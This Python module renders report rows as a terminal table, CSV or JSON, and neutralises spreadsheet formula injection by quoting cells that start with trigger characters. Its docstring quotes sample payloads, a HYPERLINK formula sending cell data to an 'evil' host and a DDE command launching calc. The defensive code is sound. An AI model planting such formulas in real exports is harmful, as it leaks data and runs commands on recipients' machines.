"""Rendering report rows as a terminal table (rich), CSV or JSON.

CSV: UTF-8, a header row, ISO 8601 UTC timestamps (``...Z``), empty cell
for null; every text cell passes :func:`spreadsheet_cell` (formula
injection). JSON: a list of objects with the same keys and formats.
"""

from __future__ import annotations

import json
from collections.abc import Sequence
from datetime import datetime
from typing import Any

from rich.console import Console
from rich.table import Table

from receiver.timeparse import to_iso

__all__ = ["FORMATS", "FORMULA_TRIGGERS", "cell", "spreadsheet_cell", "to_csv", "to_json", "to_table", "render"]

FORMATS = ("table", "csv", "json")

#: First characters that make a spreadsheet (Excel, LibreOffice, Google Sheets) read a cell as a
#: formula or a DDE command: ``=``, ``+``, ``-``, ``@``, tab and carriage return (OWASP, "CSV Injection").
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_cell(value: Any) -> Any:
    """A value made safe for a spreadsheet cell (CSV today, any future XLSX writer too).

    Rule (OWASP "CSV Injection"): text that begins with one of
    :data:`FORMULA_TRIGGERS` gets a single quote in front, so a display name
    such as ``=HYPERLINK("http://evil/?"&A1)``, ``+cmd|' /C calc'!A0``,
    ``-2+3`` or ``@SUM(A1:A9)`` (participants choose their own names) is
    shown as the text it is and never evaluated. The quote is visible in
    the cell; that is the price of the rule. Numbers (``int``, ``float``,
    ``Decimal``) and booleans are returned unchanged: a negative duration
    stays a number, not text. Anything else (``None``, datetimes) is
    returned as is; callers render it first.
    """
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def cell(value: Any) -> Any:
    """JSON-ready value: datetimes as ISO 8601 UTC, lists kept, everything else as is."""
    if isinstance(value, datetime):
        return to_iso(value)
    return value


def _csv_field(value: Any) -> str:
    """One RFC 4180 field: quoted when it holds a comma, a double quote, CR or LF (quotes doubled)."""
    text = value if isinstance(value, str) else str(value)
    if any(ch in text for ch in _CSV_SPECIAL):
        return '"' + text.replace('"', '""') + '"'
    return text


# A bare CR must be quoted too: spreadsheets end a row at it, and the text after it would start a new
# row's first cell (where "=..." is a formula). Python's csv module quotes CR only when the line
# terminator holds one, so fields are written here.
_CSV_SPECIAL = frozenset(',"\r\n')


def to_csv(rows: Sequence[dict[str, Any]], columns: Sequence[str]) -> str:
    """CSV text (RFC 4180 quoting, ``\\n`` line ends) with a header row; every cell passes :func:`spreadsheet_cell`.

    Cells: ISO 8601 UTC for datetimes, ``true``/``false`` for booleans, ``"; "``-joined lists,
    empty for null; numbers as Python writes them (``-2``, ``1800.0``).
    """
    lines = [",".join(_csv_field(spreadsheet_cell(column)) for column in columns)]
    for row in rows:
        values = []
        for column in columns:
            value = cell(row.get(column))
            if value is None:
                values.append("")
                continue
            if isinstance(value, bool):
                value = "true" if value else "false"
            elif isinstance(value, list):
                value = "; ".join(map(str, value))
            values.append(_csv_field(spreadsheet_cell(value)))
        lines.append(",".join(values))
    return "\n".join(lines) + "\n"


def to_json(rows: Sequence[dict[str, Any]], columns: Sequence[str]) -> str:
    """A JSON array of objects restricted to ``columns``."""
    return json.dumps([{c: cell(r.get(c)) for c in columns} for r in rows], indent=2, ensure_ascii=False)


def _short(value: Any) -> str:
    if isinstance(value, datetime):  # tables: compact UTC; CSV/JSON keep full ISO 8601
        return to_iso(value.replace(microsecond=0)) or "-"
    if value is None:
        return "-"
    if isinstance(value, float):
        return f"{value:.4g}" if abs(value) < 1 else f"{value:.1f}"
    return str(value)


def to_table(rows: Sequence[dict[str, Any]], columns: Sequence[str], title: str | None = None) -> Table:
    """A rich Table (for terminals)."""
    table = Table(title=title, show_lines=False)
    for column in columns:
        table.add_column(column, overflow="fold")
    for row in rows:
        table.add_row(*(_short(row.get(c)) for c in columns))
    return table


def render(
    rows: Sequence[dict[str, Any]],
    columns: Sequence[str],
    fmt: str,
    *,
    title: str | None = None,
    console: Console | None = None,
) -> str | None:
    """Render in ``fmt``: returns text for csv/json; prints a table to ``console`` and returns None."""
    if fmt == "csv":
        return to_csv(rows, columns)
    if fmt == "json":
        return to_json(rows, columns)
    if fmt == "table":
        if console is None:
            console = Console()
            if not console.is_terminal:  # piped: don't squeeze many columns into 80 characters
                console = Console(width=220)
        console.print(to_table(rows, columns, title))
        return None
    raise ValueError(f"unknown format {fmt!r}; use one of {', '.join(FORMATS)}")
